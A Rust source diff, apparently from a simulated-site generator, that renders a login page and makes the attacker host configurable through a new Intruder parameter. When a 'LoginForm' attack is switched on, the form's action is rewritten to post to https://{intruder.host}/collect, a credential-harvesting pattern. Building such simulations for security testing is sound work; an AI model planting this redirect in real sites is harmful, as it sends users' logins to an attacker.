@@ -4,7 +4,8 @@ use std::collections::BTreeSet;
 
 use serde_json::{Value, json};
 
-use crate::attack::{Attack, STRANGER};
+use crate::attack::Attack;
+use crate::intruder::Intruder;
 use crate::load::Slot;
 use crate::roster::Identity;
 use crate::template::Template;
@@ -13,7 +14,7 @@ use crate::template::Template;
 const USERS: [(&str, &str); 3] = [("d.quill", "administrator"), ("m.inkwell", "editor"), ("s.margin", "editor")];
 
 /// The login page; the dashboard behind it where an attack opened it.
-pub(crate) fn draw(identity: &Identity, attacks: &BTreeSet<Attack>) -> Template {
+pub(crate) fn draw(identity: &Identity, attacks: &BTreeSet<Attack>, intruder: &Intruder) -> Template {
     let Identity { name, lexicon, style, .. } = identity;
     let (p, ui) = (style.prefix, &lexicon.ui);
     let mut page = Template::default();
@@ -40,7 +41,7 @@ pub(crate) fn draw(identity: &Identity, attacks: &BTreeSet<Attack>) -> Template 
         return page;
     }
     let action = if attacks.contains(&Attack::LoginForm) {
-        format!("https://{STRANGER}/collect")
+        format!("https://{}/collect", intruder.host)
     } else {
         "/admin/login".to_owned()
     };
